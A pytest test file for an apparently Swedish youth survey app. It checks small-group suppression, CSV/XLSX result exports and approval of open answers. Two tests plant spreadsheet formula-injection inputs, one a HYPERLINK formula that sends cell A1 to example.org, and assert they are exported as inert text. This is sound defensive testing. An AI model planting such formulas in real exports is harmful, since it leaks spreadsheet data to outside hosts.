"""Exports hold the same figures as the pages, and nothing about fewer than the minimum."""

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from .staff import answered, make_world, release, sign_in


@pytest.fixture
def leader(app):
    world = make_world(app)
    client = app.test_client()
    sign_in(client, "a@example.org")
    return client, world


def _csv(answer):
    assert answer.headers["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(answer.text)))


def test_below_the_minimum_nothing_leaves(app, leader):
    client, world = leader
    answered(app, world.measurement, [5, 5, 1, 1])
    base = f"/lead/measurements/{world.measurement}/export"
    assert _csv(client.get(f"{base}/results.csv"))[1:] == []
    assert client.get(f"{base}/everything.csv").status_code == 404
    assert client.get(f"{base}/results.pdf").status_code == 404


def test_results_as_csv_and_excel_and_never_a_row_per_young_person(app, leader):
    client, world = leader
    answered(app, world.measurement, [1, 2, 3, 4, 5, 5])
    base = f"/lead/measurements/{world.measurement}/export"
    rows = _csv(client.get(f"{base}/results.csv"))
    assert rows[0][:6] == ["level", "focus_area", "indicator", "question", "text", "answered"]
    apply = next(r for r in rows if r[3] == "work.apply")
    assert apply[4] == "Jag vet hur jag söker ett jobb."
    assert apply[5:] == ["6", "1", "1", "1", "1", "2", "0", "3.33", "0.5", "58.3"]
    health = next(r for r in rows if r[3] == "health.sleep")
    assert health[5:] == [""] * 10  # not answered: no figure
    workbook = load_workbook(io.BytesIO(client.get(f"{base}/results.xlsx").data))
    sheet = [list(r) for r in workbook.active.iter_rows(values_only=True)]
    assert [c for c in next(r for r in sheet if r[3] == "work.apply")][5:] == [6, 1, 1, 1, 1, 2, 0, 3.33, 0.5, 58.3]

    # In a group of five to seven every row of answers is unique: one answer a leader knows would single
    # out the rest, so no export holds rows per young person.
    summary = client.get(f"/lead/measurements/{world.measurement}/summary")
    assert summary.status_code == 200 and "results.csv" in summary.text and "responses" not in summary.text
    for kind in ("responses.csv", "responses.xlsx"):
        assert client.get(f"{base}/{kind}").status_code == 404


def test_open_answers_leave_only_when_approved_and_never_as_formulas(app, leader):
    from mina_svar import answering, db, questionnaire
    from mina_svar.models import Answer, Measurement

    client, world = leader
    answered(app, world.measurement, [3, 3, 3, 3], released=False)
    with app.app_context():
        session = db.session()
        measurement = session.get(Measurement, world.measurement)
        structure = questionnaire.structure(session, measurement.questionnaire_id)
        work_open = next(q.id for q in structure.areas[0].questions if q.kind == "open")
        respondent = answering.start(session, measurement, "sv")
        answering.save(session, respondent, {work_open: answering.Given(text="=HYPERLINK(\"x\")")})
        answering.finish(session, respondent)
        session.commit()  # as the request that sends does
        release(session, measurement)
        answer_id = session.query(Answer).filter(Answer.text.is_not(None)).one().public_id
    base = f"/lead/measurements/{world.measurement}/export"
    assert not [r for r in _csv(client.get(f"{base}/results.csv")) if r[0] == "open_answer"]
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/lead/").text).group(1)
    sent = client.post(f"/lead/answers/{answer_id}/moderation", data={"csrf_token": token, "state": "approved"})
    assert sent.status_code < 400
    shared = [r for r in _csv(client.get(f"{base}/results.csv")) if r[0] == "open_answer"]
    assert shared == [["open_answer", "work", "", "", "'=HYPERLINK(\"x\")"] + [""] * 10]
    assert _xlsx_cell(client.get(f"{base}/results.xlsx"), 0, "open_answer", 4) == ("=HYPERLINK(\"x\")", "s")


def _xlsx_cell(download, key_column: int, key: str, column: int) -> tuple:
    """The value and type of a cell of the downloaded workbook's row whose ``key_column`` holds ``key``."""
    assert download.status_code == 200
    rows = load_workbook(io.BytesIO(download.data)).active.iter_rows()
    cell = next(row for row in rows if row[key_column].value == key)[column]
    return cell.value, cell.data_type


def test_no_text_of_any_export_is_opened_as_a_formula(app):
    """A group's own question, an indicator's title in a draft: whoever typed it, it stays text."""
    from mina_svar import accounts, answering, cycles, db, organising, questionnaire, xlsform
    from mina_svar.models import Questionnaire

    formula = '=HYPERLINK("http://example.org/?"&A1,"Click")'
    with app.app_context():
        session = db.session()
        organisation = organising.create_organisation(session, "Föreningen")
        group = organising.create_group(session, organisation, "Gruppen")
        leader = accounts.create_user(session, "own@example.org", "Anna", "a-long-test-password")
        organising.assign_leader(session, group, leader)
        cycle = cycles.start_cycle(session, group, "Hösten", None, None, leader)
        cycles.add_own_question(session, cycle, {"sv": formula}, "agree5", leader)
        measurement = cycles.open_measurement(session, cycle, "baseline", leader)
        own = questionnaire.structure(session, measurement.questionnaire_id).areas[-1].questions[0].id
        for value in (1, 2, 3, 4, 5):
            respondent = answering.start(session, measurement, "sv")
            answering.save(session, respondent, {own: answering.Given(value=value)})
            answering.finish(session, respondent)
            session.commit()  # as the request that sends does
        release(session, measurement)
        measurement_id, version = measurement.id, session.get(Questionnaire, measurement.questionnaire_id)
        workbook = load_workbook(io.BytesIO(xlsform.workbook(version)))
    client = app.test_client()
    assert sign_in(client, "own@example.org").status_code == 302
    base = f"/lead/measurements/{measurement_id}/export"
    row = next(r for r in _csv(client.get(f"{base}/results.csv")) if r[3] == "own.q1")
    assert row[4] == "'" + formula and row[5] == "5"
    assert _xlsx_cell(client.get(f"{base}/results.xlsx"), 3, "own.q1", 4) == (formula, "s")
    labels = [row for row in workbook["survey"].iter_rows() if row[1].value == "own.q1"]
    assert labels and all(cell.data_type == "s" for cell in labels[0] if isinstance(cell.value, str))
    assert formula in [cell.value for cell in labels[0]]
